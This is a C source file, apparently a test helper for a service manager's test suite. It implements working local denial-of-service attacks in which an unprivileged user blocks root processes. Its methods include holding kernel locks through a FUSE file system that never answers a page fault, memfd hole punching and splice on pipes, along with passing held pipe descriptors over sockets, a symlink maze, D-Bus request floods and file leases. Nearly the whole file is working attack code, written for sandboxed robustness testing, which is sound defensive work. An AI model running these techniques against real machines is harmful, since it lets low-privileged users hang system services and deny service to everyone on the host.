/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Attack: calls with which a user without rights, or a service with User=, can block a root process
 * that shares an object with it.
 *
 *   attack [-u UID] [-m MARK] [-w fuse|punch|splice] COMMAND ARGUMENT...
 *
 * -u: becomes that user, without capabilities and with no_new_privs. -m: writes its state to that
 * file in lines: "fuse CONNECTION" (abort it in /sys/fs/fuse/connections to end the attack), "held
 * WAY", "failed REASON". The commands are in the table at the end. tests/lib/attack.py documents
 * them and starts them in a sandbox.
 *
 * Three ways to hold a kernel lock:
 *
 * fuse:   A page of a file in the attacker's own FUSE file system is the buffer of a system call. A
 *         thread of the attacker receives the request of the page fault and never answers it. The
 *         thread shares the descriptor of /dev/fuse with the waiting process. So SIGKILL ends
 *         neither the wait nor the file system.
 * punch:  Needs neither user namespaces nor /dev/fuse. A page of a memfd is the buffer, while a
 *         thread punches a hole around it. The page fault waits until the hole is complete. A
 *         larger hole takes longer. This is repeated.
 * splice: For pipes only. splice(2) from an empty socket into a pipe waits for data with the pipe's
 *         mutex held. SIGKILL ends it.
 *
 * This program uses no libraries, because it also runs on machines with few of them.
 */
#include "config.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/capability.h>
#include <linux/fuse.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define PAGE 4096
#define FILE_NODE 2
#define FILE_PAGES 16
#define PUNCH_MIB 256 /* takes about 0.1 s to fill, and as long to punch */
#define MAX_PIPES 64 /* used by send-descriptor */

static const char *mark_path;
static const char *method; /* NULL: the first that works with the command */

/* --- reports --- */

static void mark(const char *format, ...)
{
	char line[512];
	va_list args;
	int fd, n;

	va_start(args, format);
	n = vsnprintf(line, sizeof line - 1, format, args);
	va_end(args);
	if (n > (int)sizeof line - 2)
		n = sizeof line - 2;
	line[n++] = '\n';
	fd = mark_path ? open(mark_path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644) : dup(2);
	if (fd < 0 || write(fd, line, (size_t)n) < 0)
		_exit(3);
	(void)close(fd);
}

static void fail(const char *what)
{
	mark("failed %s: %s", what, strerror(errno));
	_exit(1);
}

/* An inherited descriptor, or a path to open. */
static int descriptor(const char *text)
{
	const int fd = text[0] == '/' ? open(text, O_RDWR | O_CLOEXEC) : atoi(text);

	if (fd < 0)
		fail(text);
	return fd;
}

static void wait_for_ever(void)
{
	for (;;)
		(void)pause();
}

static void rest_ms(long ms)
{
	const struct timespec pause_for = { .tv_sec = ms / 1000, .tv_nsec = ms % 1000 * 1000000 };

	(void)nanosleep(&pause_for, NULL);
}

/* --- children --- */

/*
 * The child sets this flag just before its blocking call. The parent cannot see in /proc whether
 * the child waits, because /proc is one of the held directories. So the parent rests for a moment
 * when the flag is set.
 */
static volatile bool *is_about_to;

#define UNTIL_IT_WAITS_MS 20

static pid_t fork_one_that_waits(void)
{
	if (!is_about_to) {
		void *shared =
			mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

		if (shared == MAP_FAILED)
			fail("mmap");
		is_about_to = shared;
	}
	*is_about_to = false;
	return fork();
}

/* Returns: false if the child has ended. */
static bool child_waits(pid_t child)
{
	while (!*is_about_to) {
		if (waitpid(child, NULL, WNOHANG) != 0)
			return false;
		rest_ms(1);
	}
	rest_ms(UNTIL_IT_WAITS_MS);
	return waitpid(child, NULL, WNOHANG) == 0;
}

/* --- rights --- */

static void run_as(uid_t uid)
{
	struct __user_cap_header_struct header = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct none[2] = { { 0 } };

	for (int capability = 0; prctl(PR_CAPBSET_READ, capability, 0, 0, 0) >= 0; capability++)
		(void)prctl(PR_CAPBSET_DROP, capability, 0, 0, 0);
	if (syscall(SYS_setgroups, 0, NULL) < 0 || setresgid(uid, uid, uid) < 0 ||
	    setresuid(uid, uid, uid) < 0)
		fail("setresuid");
	if (syscall(SYS_capset, &header, none) < 0)
		fail("capset");
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
		fail("PR_SET_NO_NEW_PRIVS");
	/* After a change of user, root owns /proc/self and thus uid_map. */
	(void)prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
}

/* --- a buffer in a file system that does not answer --- */

static int fuse_fd = -1;
static pid_t writer; /* a process that also waits for the lock; 0: none */

static void fuse_reply(uint64_t unique, int error, const void *body, size_t size)
{
	struct fuse_out_header header = { .len = (uint32_t)(sizeof header + size),
					  .error = -error,
					  .unique = unique };
	char message[512];

	memcpy(message, &header, sizeof header);
	if (size)
		memcpy(message + sizeof header, body, size);
	(void)!write(fuse_fd, message, header.len);
}

static struct fuse_attr attributes_of(uint64_t node)
{
	return (struct fuse_attr){ .ino = node,
				   .size = FILE_PAGES * PAGE,
				   .blocks = FILE_PAGES * PAGE / 512,
				   .blksize = PAGE,
				   .mode = node == FUSE_ROOT_ID ? S_IFDIR | 0755 : S_IFREG | 0644,
				   .nlink = 1 };
}

/* From here on the lock is held. */
static void report_held(void)
{
	if (writer)
		(void)child_waits(writer);
	mark("held fuse");
}

static void fuse_answer(const struct fuse_in_header *in)
{
	/*
	 * Without FUSE_ASYNC_READ the page fault itself sends the request, and no signal ends its
	 * wait for the answer.
	 */
	const struct fuse_init_out init = {
		.major = 7, .minor = 31, .max_readahead = 0, .max_write = PAGE, .time_gran = 1
	};
	const struct fuse_entry_out entry = { .nodeid = FILE_NODE,
					      .entry_valid = 3600,
					      .attr_valid = 3600,
					      .attr = attributes_of(FILE_NODE) };
	const struct fuse_attr_out attr = { .attr_valid = 3600, .attr = attributes_of(in->nodeid) };
	const struct fuse_open_out opened = { 0 };

	switch (in->opcode) {
	case FUSE_INIT:
		fuse_reply(in->unique, 0, &init, sizeof init);
		break;
	case FUSE_LOOKUP:
		fuse_reply(in->unique, 0, &entry, sizeof entry);
		break;
	case FUSE_GETATTR:
		fuse_reply(in->unique, 0, &attr, sizeof attr);
		break;
	case FUSE_OPEN:
		fuse_reply(in->unique, 0, &opened, sizeof opened);
		break;
	case FUSE_READ:
		report_held();
		break;
	case FUSE_FORGET:
	case FUSE_BATCH_FORGET:
		break;
	default:
		fuse_reply(in->unique, ENOSYS, NULL, 0);
		break;
	}
}

static void *fuse_serve(void *unused)
{
	static char message[1 << 17];

	while (read(fuse_fd, message, sizeof message) > 0)
		fuse_answer((const struct fuse_in_header *)message);
	return unused;
}

static bool write_file(const char *path, const char *text)
{
	const int fd = open(path, O_WRONLY | O_CLOEXEC);
	const bool ok = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);

	if (fd >= 0)
		(void)close(fd);
	return ok;
}

static bool enter_user_namespace(void)
{
	char uids[64], gids[64];

	(void)snprintf(uids, sizeof uids, "0 %u 1", getuid());
	(void)snprintf(gids, sizeof gids, "0 %u 1", getgid());
	return unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 &&
	       write_file("/proc/self/setgroups", "deny") &&
	       write_file("/proc/self/uid_map", uids) && write_file("/proc/self/gid_map", gids);
}

/*
 * Returns: a page whose first access never ends; NULL with errno on failure. The caller opens all
 * paths first.
 */
static char *fuse_page(void)
{
	char options[96];
	pthread_t server;
	struct stat st;
	char *page;
	int fd;

	if (!enter_user_namespace())
		return NULL;
	fuse_fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	if (fuse_fd < 0)
		return NULL;
	(void)snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0",
		       fuse_fd);
	/* Mounted over a directory that every machine has: no other process sees it. */
	if (mount("attack", "/tmp", "fuse", MS_NOSUID | MS_NODEV, options) < 0)
		return NULL;
	if (pthread_create(&server, NULL, fuse_serve, NULL) != 0)
		return NULL;
	fd = open("/tmp/page", O_RDWR | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) < 0)
		return NULL;
	mark("fuse %u", minor(st.st_dev));
	page = mmap(NULL, FILE_PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
	if (page == MAP_FAILED)
		return NULL;
	(void)madvise(page, FILE_PAGES * PAGE, MADV_RANDOM); /* no read-ahead */
	return page;
}

/* --- a buffer out of which a hole is punched --- */

typedef struct Memory {
	int fd;
	off_t size;
	char *page;
	volatile bool is_punching;
} Memory;

static void *punch(void *data)
{
	Memory *memory = data;

	memory->is_punching = true;
	(void)fallocate(memory->fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, memory->size);
	return NULL;
}

static char *punched_page(Memory *memory)
{
	const char *mib = getenv("ATTACK_PUNCH_MIB");

	memory->size = (off_t)(mib ? atoi(mib) : PUNCH_MIB) << 20;
	memory->fd = (int)syscall(SYS_memfd_create, "attack", 0);
	if (memory->fd < 0 || ftruncate(memory->fd, memory->size) < 0)
		fail("memfd_create");
	/* The hole is punched from the start of the file, so its last page is removed last. */
	memory->page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, memory->fd,
			    memory->size - PAGE);
	if (memory->page == MAP_FAILED)
		fail("mmap");
	return memory->page;
}

/* --- the system call with that buffer --- */

typedef long (*Call)(int fd, char *buffer);

static void hold_by_fuse(int fd, Call call)
{
	char *page = fuse_page();

	if (!page)
		return; /* the caller tries another way */
	(void)call(fd, page);
	mark("failed fuse: the call ended: %s", strerror(errno));
	_exit(1);
}

static void hold_by_punching(int fd, Call call)
{
	Memory memory;
	char *page = punched_page(&memory);

	for (bool is_first = true;; is_first = false) {
		pthread_t thread;

		memory.is_punching = false;
		if (fallocate(memory.fd, 0, 0, memory.size) < 0)
			fail("fallocate");
		if (pthread_create(&thread, NULL, punch, &memory) != 0)
			fail("pthread_create");
		while (!memory.is_punching)
			(void)sched_yield();
		if (is_first)
			mark("held punch");
		(void)call(fd, page);
		(void)pthread_join(thread, NULL);
	}
}

/* Never returns. */
static void hold(int fd, Call call)
{
	if (!method || strcmp(method, "fuse") == 0) {
		hold_by_fuse(fd, call);
		if (method)
			fail("fuse");
		mark("no fuse: %s", strerror(errno));
	}
	hold_by_punching(fd, call);
}

/* --- directories --- */

static long list_directory(int fd, char *buffer)
{
	(void)lseek(fd, 0, SEEK_SET);
	return syscall(SYS_getdents64, fd, buffer, PAGE);
}

/* mkdir(2) waits for the directory's lock before it checks the permission to write there. */
static void wait_as_writer(const char *directory)
{
	char path[PATH_MAX];

	(void)snprintf(path, sizeof path, "%s/attack-%d", directory, getpid());
	for (;;) {
		*is_about_to = true;
		(void)mkdir(path, 0755);
		rest_ms(1);
	}
}

static void hold_directory(char **argv)
{
	const int fd = open(argv[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (fd < 0)
		fail(argv[0]);
	if (argv[1] && strcmp(argv[1], "writer") == 0 && (writer = fork_one_that_waits()) == 0)
		wait_as_writer(argv[0]);
	hold(fd, list_directory);
}

/* --- pipes --- */

/*
 * When this returns, a child holds the mutex of the pipe behind @write_end. Just before it takes
 * the mutex, it writes @first, to make a reader wait. @other is closed in the child; -1: none.
 */
static pid_t hold_by_splicing(int write_end, const char *first, int other)
{
	int empty[2];
	pid_t child;

	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, empty) < 0)
		fail("socketpair");
	child = fork_one_that_waits();
	if (child == 0) {
		(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (other >= 0)
			(void)close(other);
		(void)!write(write_end, first, strlen(first));
		*is_about_to = true;
		(void)splice(empty[0], NULL, write_end, NULL, 1, 0);
		mark("failed splice: it ended: %s", strerror(errno));
		_exit(1);
	}
	if (child < 0)
		fail("fork");
	if (!child_waits(child))
		_exit(1); /* it has reported the reason */
	/* The child has both ends. While one is open, splice waits. */
	(void)close(empty[0]);
	(void)close(empty[1]);
	return child;
}

static long write_a_page(int fd, char *buffer)
{
	return write(fd, buffer, PAGE);
}

/* The first page is in the pipe, visible to poll(2), while the call waits for the second one. */
static long write_two_pages(int fd, char *buffer)
{
	static char first[PAGE];
	const struct iovec pages[2] = { { .iov_base = first, .iov_len = PAGE },
					{ .iov_base = buffer, .iov_len = PAGE } };

	memset(first, 'x', sizeof first);
	return writev(fd, pages, 2);
}

static long read_a_page(int fd, char *buffer)
{
	return read(fd, buffer, PAGE);
}

/* Writes half a line first, so that a reader of lines continues to read. */
static void hold_pipe(char **argv)
{
	const int fd = descriptor(argv[0]);
	const int flags = fcntl(fd, F_GETFL), access = flags & O_ACCMODE;

	(void)fcntl(fd, F_SETFL, flags & ~O_NONBLOCK); /* splice(2) would not wait */
	if (access != O_RDONLY && (!method || strcmp(method, "splice") == 0)) {
		struct stat st;

		if (fstat(fd, &st) < 0)
			fail("fstat");
		if (!S_ISFIFO(st.st_mode)) {
			mark("failed splice: descriptor %d is not a pipe", fd);
			wait_for_ever();
		}
		(void)hold_by_splicing(fd, "half a line", -1);
		mark("held splice");
		wait_for_ever();
	}
	hold(fd, access == O_RDONLY ? read_a_page : write_two_pages);
}

/* --- sockets --- */

static int family_of(int fd)
{
	int family = -1;
	socklen_t size = sizeof family;

	(void)getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &family, &size);
	return family;
}

static long set_ip_options(int fd, char *buffer)
{
	return setsockopt(fd, IPPROTO_IP, IP_OPTIONS, buffer, 40);
}

static long set_ipv6_options(int fd, char *buffer)
{
	return setsockopt(fd, IPPROTO_IPV6, IPV6_2292PKTOPTIONS, buffer, 40);
}

static long receive(int fd, char *buffer)
{
	return recv(fd, buffer, PAGE, 0);
}

static void hold_socket(char **argv)
{
	const int fd = descriptor(argv[0]);

	switch (family_of(fd)) {
	case AF_INET:
		hold(fd, set_ip_options);
		break;
	case AF_INET6:
		hold(fd, set_ipv6_options);
		break;
	default:
		hold(fd, receive);
		break; /* takes the readers' lock */
	}
}

/*
 * Turns a listening socket into a connection with SO_LINGER to PORT on this machine. Its data is
 * never read. The peer is "sink PORT", and must not end with the service.
 */
static void linger(char **argv)
{
	const int fd = descriptor(argv[0]);
	const struct linger for_long = { .l_onoff = 1, .l_linger = 3600 };
	const struct sockaddr unspecified = { .sa_family = AF_UNSPEC };
	const struct sockaddr_in peer = { .sin_family = AF_INET,
					  .sin_port = htons((uint16_t)atoi(argv[1])),
					  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	char data[PAGE] = { 0 };

	if (connect(fd, &unspecified, sizeof unspecified) < 0)
		fail("connect to nothing");
	for (int i = 0; connect(fd, (const struct sockaddr *)&peer, sizeof peer) < 0; i++) {
		if (i > 1000)
			fail("connect");
		rest_ms(20); /* until the peer listens */
	}
	if (setsockopt(fd, SOL_SOCKET, SO_LINGER, &for_long, sizeof for_long) < 0)
		fail("SO_LINGER");
	while (send(fd, data, sizeof data, MSG_DONTWAIT) > 0)
		;
	mark("held linger");
	wait_for_ever();
}

static int listen_on(int port, int backlog)
{
	const struct sockaddr_in any = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	const int yes = 1;
	const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &yes, sizeof yes) < 0 ||
	    bind(fd, (const struct sockaddr *)&any, sizeof any) < 0 || listen(fd, backlog) < 0)
		fail("listen");
	return fd;
}

static void sink(char **argv)
{
	const int fd = listen_on(atoi(argv[0]), 16);

	mark("held sink");
	while (accept(fd, NULL, NULL) >= 0)
		;
}

static void listeners(char **argv)
{
	struct rlimit limit;

	if (getrlimit(RLIMIT_NOFILE, &limit) == 0) {
		limit.rlim_cur = limit.rlim_max;
		(void)setrlimit(RLIMIT_NOFILE, &limit);
	}
	for (int n = atoi(argv[0]); n > 0; n--)
		(void)listen_on(atoi(argv[1]), 1);
	mark("held listeners");
	wait_for_ever();
}

/*
 * Writes the addresses of this machine into the buffer, while the kernel holds its lock on all
 * network configuration (rtnl).
 */
static long list_addresses(int fd, char *buffer)
{
	struct ifconf list = { .ifc_len = PAGE, .ifc_buf = buffer };

	return ioctl(fd, SIOCGIFCONF, &list);
}

static void hold_network(char **argv)
{
	const int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	(void)argv;
	if (fd < 0)
		fail("socket");
	hold(fd, list_addresses);
}

/* --- unrequested descriptors --- */

/*
 * Sends one byte with the read end of a pipe. The last close waits for the mutex that a child of
 * this process holds.
 */
static bool send_held_pipe(int fd)
{
	union {
		struct cmsghdr header;
		char space[CMSG_SPACE(sizeof(int))];
	} control = { 0 };
	struct iovec byte = { .iov_base = (char *)"x", .iov_len = 1 };
	struct msghdr message = { .msg_iov = &byte,
				  .msg_iovlen = 1,
				  .msg_control = &control,
				  .msg_controllen = sizeof control };
	int ends[2];
	pid_t child;
	bool is_sent;

	if (pipe2(ends, O_CLOEXEC) < 0)
		fail("pipe");
	child = hold_by_splicing(ends[1], "", ends[0]);
	control.header = (struct cmsghdr){ .cmsg_level = SOL_SOCKET,
					   .cmsg_type = SCM_RIGHTS,
					   .cmsg_len = CMSG_LEN(sizeof(int)) };
	memcpy(CMSG_DATA(&control.header), &ends[0], sizeof(int));
	is_sent = sendmsg(fd, &message, MSG_DONTWAIT | MSG_NOSIGNAL) == 1;
	if (!is_sent) {
		const int why = errno;

		(void)kill(child, SIGKILL); /* otherwise the close below would wait */
		(void)waitpid(child, NULL, 0);
		errno = why;
	}
	(void)close(ends[0]);
	(void)close(ends[1]);
	return is_sent;
}

static int connect_to(const char *path)
{
	static const int types[] = { SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET };
	struct sockaddr_un address = { .sun_family = AF_UNIX };

	(void)snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
	if (path[0] == '@')
		address.sun_path[0] = '\0';
	for (unsigned i = 0; i < 3; i++) {
		const int fd = socket(AF_UNIX, types[i] | SOCK_CLOEXEC, 0);
		const socklen_t size =
			path[0] == '@' ?
				(socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(path)) :
				(socklen_t)sizeof address;

		if (fd >= 0 && connect(fd, (const struct sockaddr *)&address, size) == 0)
			return fd;
		if (fd >= 0)
			(void)close(fd);
		if (errno != EPROTOTYPE)
			return -1;
	}
	return -1;
}

/* A path, or the name of a variable: "$NOTIFY_SOCKET". */
static const char *address_of(const char *text)
{
	const char *value = text[0] == '$' ? getenv(text + 1) : text;

	return value ? value : "";
}

/*
 * The receiver has the last reference only if it reads after this process has closed its own copy.
 * Some earlier datagrams keep the receiver busy. A fast receiver may still read too early. Then
 * this process blocks itself, so each try needs a new process.
 */
static void send_once(int fd)
{
	int type = 0;
	socklen_t size = sizeof type;

	(void)getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &size);
	for (int i = 0; type == SOCK_DGRAM && i < 8; i++)
		(void)send(fd, "X=1", 3, MSG_DONTWAIT | MSG_NOSIGNAL);
	if (!send_held_pipe(fd))
		fail("sendmsg");
	mark("held descriptor");
	wait_for_ever();
}

/* Repeats every second, because a blocked process may have a successor. */
static void send_descriptor(char **argv)
{
	for (int i = 0; i < MAX_PIPES; i++, rest_ms(1000)) {
		if (fork() == 0) {
			const int fd = connect_to(address_of(argv[0]));

			if (fd < 0)
				fail(argv[0]);
			send_once(fd);
		}
	}
	wait_for_ever();
}

/* Sends descriptors of held pipes into the service's own output, between lines. */
static void output_descriptors(char **argv)
{
	const int fd = argv[0] ? atoi(argv[0]) : 1;
	struct stat st;

	if (fstat(fd, &st) < 0 || !S_ISSOCK(st.st_mode)) {
		mark("failed descriptor: descriptor %d is not a socket", fd);
		wait_for_ever();
	}
	(void)!write(fd, "a line\n", 7);
	for (int i = 0; i < MAX_PIPES; i++, rest_ms(1000)) {
		if (fork() == 0)
			send_once(fd);
	}
	wait_for_ever();
}

/* --- terminals --- */

/*
 * Waits for the lock of the line discipline for five seconds, again and again. All later calls
 * queue behind it.
 */
static void set_line_discipline(int fd)
{
	const int n_tty = 0;

	for (;;) {
		*is_about_to = true;
		(void)ioctl(fd, TIOCSETD, &n_tty);
		rest_ms(1);
	}
}

static void hold_terminal(char **argv)
{
	const int fd = open(argv[0], O_RDWR | O_NOCTTY | O_CLOEXEC);

	if (fd < 0)
		fail(argv[0]);
	writer = fork_one_that_waits();
	if (writer == 0)
		set_line_discipline(fd);
	hold(fd, write_a_page);
}

/* --- unbounded work --- */

#define MAZE_DEPTH 1900
#define MAZE_LINKS 39 /* the kernel follows at most 40 */

static void link_to(const char *target, const char *path)
{
	if (symlink(target, path) < 0)
		fail(path);
}

/*
 * PATH becomes a link into the deepest of MAZE_DEPTH directories below PATH.maze, which contain
 * links to each other. Each link starts at the root. PATH is removed and created all the time, so
 * it must be resolved again.
 */
static void maze(char **argv)
{
	static char way_down[PATH_MAX];
	char target[PATH_MAX + 16], name[16];
	size_t length;

	length = (size_t)snprintf(way_down, sizeof way_down, "%s.maze", argv[0]);
	if (mkdir(way_down, 0755) < 0 || chdir(way_down) < 0)
		fail(way_down);
	for (int i = 0; i < MAZE_DEPTH && length < PATH_MAX - 64; i++) {
		if (mkdir("d", 0755) < 0 || chdir("d") < 0)
			fail("d");
		way_down[length++] = '/';
		way_down[length++] = 'd';
	}
	for (int i = 1; i < MAZE_LINKS; i++) {
		(void)snprintf(target, sizeof target, "%s/%d", way_down, i + 1);
		(void)snprintf(name, sizeof name, "%d", i);
		link_to(target, name);
	}
	(void)snprintf(target, sizeof target, "%s/1", way_down);
	link_to(target, argv[0]);
	mark("held maze");
	for (;; rest_ms(20)) {
		(void)unlink(argv[0]);
		link_to(target, argv[0]);
	}
}

typedef struct Message {
	uint8_t bytes[1024];
	size_t size;
} Message;

static void put(Message *m, const void *bytes, size_t size)
{
	memcpy(m->bytes + m->size, bytes, size);
	m->size += size;
}

static void align(Message *m, size_t to)
{
	while (m->size % to)
		m->bytes[m->size++] = 0;
}

static void put_field(Message *m, uint8_t code, char type, const char *text)
{
	const uint32_t length = (uint32_t)strlen(text);
	const char signature[3] = { 1, type, 0 };

	align(m, 8);
	put(m, &code, 1);
	put(m, signature, 3);
	put(m, &length, 4);
	put(m, text, length + 1);
}

/* A method call without arguments; D-Bus specification, "Message Format". */
static Message method_call(uint32_t serial, const char *to, const char *path, const char *interface,
			   const char *member)
{
	Message m = { .size = 0 };
	uint32_t size = 0, body = 0;

	put(&m, "l\1\0\1", 4);
	put(&m, &body, 4);
	put(&m, &serial, 4);
	put(&m, &size, 4); /* size of the fields below */
	put_field(&m, 1, 'o', path);
	put_field(&m, 2, 's', interface);
	put_field(&m, 3, 's', member);
	put_field(&m, 6, 's', to);
	size = (uint32_t)m.size - 16;
	memcpy(m.bytes + 12, &size, 4);
	align(&m, 8);
	return m;
}

static void send_all(int fd, const void *bytes, size_t size)
{
	if (send(fd, bytes, size, MSG_NOSIGNAL) != (ssize_t)size)
		fail("send to the bus");
}

/* A client that requests everything, and repeats that after each answer. */
static void request_everything(const char *socket_path)
{
	static char answer[1 << 20];
	char text[96], uid[16];
	Message m;
	int fd = connect_to(socket_path), n, at = 0;

	if (fd < 0)
		fail(socket_path);
	n = snprintf(uid, sizeof uid, "%u", getuid());
	at = snprintf(text, sizeof text, "%cAUTH EXTERNAL ", 0);
	for (int i = 0; i < n; i++)
		at += snprintf(text + at, sizeof text - (size_t)at, "%02x", uid[i]);
	at += snprintf(text + at, sizeof text - (size_t)at, "\r\n");
	send_all(fd, text, (size_t)at);
	if (recv(fd, answer, sizeof answer, 0) < 2 || memcmp(answer, "OK", 2) != 0)
		fail("authentication");
	send_all(fd, "BEGIN\r\n", 7);
	m = method_call(1, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus",
			"Hello");
	send_all(fd, m.bytes, m.size);
	mark("held bus");
	for (uint32_t serial = 2;; serial++) {
		struct pollfd waits = { .fd = fd, .events = POLLIN };

		m = method_call(serial, "org.svcd1", "/org/svcd1",
				"org.freedesktop.DBus.ObjectManager", "GetManagedObjects");
		send_all(fd, m.bytes, m.size);
		if (recv(fd, answer, sizeof answer, 0) <= 0)
			fail("the bus");
		/*
		 * Drops the rest of an answer of many megabytes. If a part arrives late, more
		 * answers wait in the socket.
		 */
		while (poll(&waits, 1, 2) > 0 && recv(fd, answer, sizeof answer, MSG_DONTWAIT) > 0)
			;
	}
}

static void bus_flood(char **argv)
{
	for (int n = argv[1] ? atoi(argv[1]) : 32; n > 1; n--) {
		if (fork() == 0)
			break;
	}
	request_everything(argv[0]);
}

/* --- other waits --- */

/*
 * If another process opens the file, open(2) waits until the lease is released, but not longer than
 * the seconds in /proc/sys/fs/lease-break-time.
 */
static void hold_lease(char **argv)
{
	int fd = open(argv[0], O_RDWR | O_CREAT | O_CLOEXEC, 0644);

	if (fd < 0 || fcntl(fd, F_SETLEASE, F_WRLCK) < 0)
		fail(argv[0]);
	(void)signal(SIGIO, SIG_IGN);
	mark("held lease");
	for (;;) {
		rest_ms(5000);
		(void)fcntl(fd, F_SETLEASE, F_WRLCK); /* renews a broken lease */
	}
}

/* Not an attack: a service that sends its readiness as a datagram. */
static void be_ready(char **argv)
{
	const int fd = connect_to(address_of(argv[0]));

	if (fd < 0 || send(fd, "READY=1", 7, MSG_NOSIGNAL) < 0)
		fail("READY=1");
	wait_for_ever();
}

static int64_t now_ns(void)
{
	struct timespec now;

	(void)clock_gettime(CLOCK_MONOTONIC, &now); /* cannot fail */
	return (int64_t)now.tv_sec * 1000000000 + now.tv_nsec;
}

/* A service that records the time of its exec. */
static void note(char **argv)
{
	char line[64];
	const int n = snprintf(line, sizeof line, "%lld %d\n", (long long)now_ns(), getpid());
	const int fd = open(argv[0], O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0666);

	if (fd < 0 || write(fd, line, (size_t)n) != n)
		fail(argv[0]);
	wait_for_ever();
}

/*
 * Prints for each line of standard input how long an orphan stays a zombie until PID 1 reaps it, in
 * nanoseconds.
 */
static void reap(char **argv)
{
	char line[16];

	(void)argv;
	while (fgets(line, sizeof line, stdin)) {
		int ends[2];
		pid_t parent, orphan = 0;
		int64_t begin;

		if (pipe2(ends, O_CLOEXEC) < 0)
			fail("pipe");
		parent = fork();
		if (parent == 0) {
			orphan = fork();
			if (orphan == 0)
				wait_for_ever();
			(void)!write(ends[1], &orphan, sizeof orphan);
			_exit(0);
		}
		(void)!read(ends[0], &orphan, sizeof orphan);
		(void)waitpid(parent, NULL, 0);
		(void)close(ends[0]);
		(void)close(ends[1]);
		begin = now_ns();
		(void)kill(orphan, SIGKILL);
		while (orphan > 1 && kill(orphan, 0) == 0) {
			const struct timespec a_little = { .tv_nsec = 100000 };

			(void)nanosleep(&a_little, NULL);
		}
		(void)printf("%lld\n", (long long)(now_ns() - begin));
		(void)fflush(stdout);
	}
}

/* The control measurement: the same load without an attack. */
static void busy(char **argv)
{
	const long percent = atol(argv[0]);

	mark("held nothing");
	for (;;) {
		struct timespec begin, now;

		(void)clock_gettime(CLOCK_MONOTONIC, &begin);
		do
			(void)clock_gettime(CLOCK_MONOTONIC, &now);
		while ((now.tv_sec - begin.tv_sec) * 1000000 +
			       (now.tv_nsec - begin.tv_nsec) / 1000 <
		       percent * 100);
		if (percent < 100) {
			const struct timespec pause_for = { .tv_nsec = (100 - percent) * 100000 };

			(void)nanosleep(&pause_for, NULL);
		}
	}
}

typedef struct Command {
	const char *name;
	int n_arguments; /* at least */
	void (*run)(char **argv);
} Command;

static const Command commands[] = {
	{ "hold-directory", 1, hold_directory }, /* PATH ["writer"] */
	{ "hold-pipe", 1, hold_pipe }, /* FD or PATH */
	{ "hold-socket", 1, hold_socket }, /* FD */
	{ "hold-network", 0, hold_network },
	{ "hold-terminal", 1, hold_terminal }, /* PATH */
	{ "hold-lease", 1, hold_lease }, /* PATH */
	{ "send-descriptor", 1, send_descriptor }, /* PATH of a socket, @NAME, $VARIABLE */
	{ "output-descriptors", 0, output_descriptors }, /* [FD] */
	{ "linger", 2, linger }, /* FD PORT */
	{ "sink", 1, sink }, /* PORT */
	{ "listeners", 2, listeners }, /* COUNT PORT */
	{ "maze", 1, maze }, /* PATH */
	{ "bus-flood", 1, bus_flood }, /* PATH of the bus' socket [CLIENTS] */
	{ "be-ready", 1, be_ready }, /* $NOTIFY_SOCKET */
	{ "note", 1, note }, /* PATH */
	{ "reap", 0, reap },
	{ "busy", 1, busy }, /* PERCENT of a processor */
};

int main(int argc, char **argv)
{
	const char *user = NULL;
	int option;

	while ((option = getopt(argc, argv, "+u:m:w:")) != -1) {
		switch (option) {
		case 'u':
			user = optarg;
			break;
		case 'm':
			mark_path = optarg;
			break;
		case 'w':
			method = optarg;
			break;
		default:
			return 2;
		}
	}
	if (user)
		run_as((uid_t)atoi(user));
	for (size_t i = 0; optind < argc && i < sizeof commands / sizeof *commands; i++) {
		if (strcmp(commands[i].name, argv[optind]) == 0 &&
		    argc - optind - 1 >= commands[i].n_arguments) {
			commands[i].run(argv + optind + 1);
			return 0;
		}
	}
	(void)fprintf(
		stderr,
		"usage: attack [-u UID] [-m MARK] [-w fuse|punch|splice] COMMAND ARGUMENT...\n");
	return 2;
}
